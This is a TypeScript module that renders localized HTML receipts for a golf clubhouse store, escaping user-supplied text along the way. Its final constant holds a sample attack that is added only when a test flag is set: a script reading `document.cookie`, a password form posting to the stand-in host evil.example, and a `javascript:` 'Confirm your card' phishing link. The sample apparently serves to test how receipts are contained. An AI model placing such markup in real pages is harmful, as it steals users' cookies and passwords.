import type { Language } from '../../../world/languages.ts'
import { say } from '../../../world/languages.ts'
import type { Currency } from '../../../world/stores.ts'
import type { PaidPurchase } from './paidPurchases.ts'

const words = {
  title: say('Receipt', 'Reçu', '領収書', '收据'),
  to: say('Received from', 'Reçu de', '宛名', '付款人'),
  receipt: say('Receipt number', 'Reçu n°', '領収書番号', '收据编号'),
  number: say('Order', 'Commande', '注文番号', '订单'),
  date: say('Paid on', 'Payé le', '領収日', '付款日期'),
  student: say('Player', 'Joueur', 'プレーヤー', '球员'),
  item: say('Item', 'Article', '内容', '项目'),
  amount: say('Amount', 'Montant', '金額', '金额'),
  total: say('Total paid', 'Total payé', '領収金額', '实付总额'),
  refunded: say('Refunded', 'Remboursé', '返金済み', '已退款'),
  included: say('of which', 'dont', 'うち', '其中'),
} as const

const headOffice = ['Clubhouse Golf Inc.', '1180 Harborview Walk, Chicago, IL 60611', 'Tax ID 36-0192837']

/** Name, address and number at the tax office, as an employer asks for them. */
const issuers: Readonly<Partial<Record<Currency, readonly string[]>>> = {
  JPY: ['クラブハウス株式会社', '〒104-0061 東京都中央区銀座9丁目14番', '登録番号 T0123456789012'],
  CNY: ['会所高尔夫（上海）有限公司', '上海市黄浦区滨江路1180号', '统一社会信用代码 91310000ABCDEF0123'],
}

/** Names and addresses are text, never markup. */
function escaped(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;')
}

interface Issued {
  readonly purchase: PaidPurchase
  readonly address: string
  readonly language: Language
}

export function receiptHtml({ purchase, address, language }: Issued): string {
  const { number, paidAt, studentName, store, lines, tax, total, isRefunded = false, isHostile = false } = purchase
  const money = new Intl.NumberFormat(language, { style: 'currency', currency: store.currency })
  const shown = (minor: number) => escaped(money.format(minor / 10 ** store.decimals))
  const day = Temporal.Instant.from(paidAt).toZonedDateTimeISO(store.timezone).toPlainDate()
  const word = (name: keyof typeof words) => words[name][language]
  const taxName = `${store.taxName} ${Number((store.taxRate * 100).toFixed(3))}%`
  const rows = [
    ...lines.map(({ label, minor }) => row(escaped(label), shown(minor))),
    ...(tax > 0 && !store.taxIncluded ? [row(escaped(taxName), shown(tax))] : []),
    row(`<strong>${word('total')}</strong>`, `<strong>${shown(total)}</strong>`),
    ...(isRefunded ? [row(word('refunded'), shown(-total))] : []),
    ...(tax > 0 && store.taxIncluded ? [row(`${word('included')} ${escaped(taxName)}`, shown(tax))] : []),
  ]
  return [
    `<h2>${word('title')}</h2><p>${(issuers[store.currency] ?? headOffice).join('<br>')}</p>`,
    `<dl><dt>${word('to')}</dt><dd>${escaped(address).replaceAll('\n', '<br>')}</dd>`,
    `<dt>${word('receipt')}</dt><dd>R-${escaped(number)}</dd><dt>${word('number')}</dt><dd>${escaped(number)}</dd><dt>${word('date')}</dt><dd>${day.toLocaleString(language, { dateStyle: 'long' })}</dd>`,
    `<dt>${word('student')}</dt><dd>${escaped(studentName)}</dd></dl>`,
    `<table><thead><tr><th scope="col">${word('item')}</th><th scope="col">${word('amount')}</th></tr></thead><tbody>${rows.join('')}</tbody></table>`,
    ...(isHostile ? [hostile] : []),
  ].join('')
}

function row(label: string, amount: string): string {
  return `<tr><th scope="row">${label}</th><td>${amount}</td></tr>`
}

const hostile =
  '<script>globalThis.stolen = document.cookie</script><form action="https://evil.example/"><input name="password"></form>' +
  '<p><a href="javascript:globalThis.stolen=1">Confirm your card</a> <a href="https://evil.example/" target="_top">here</a></p>'
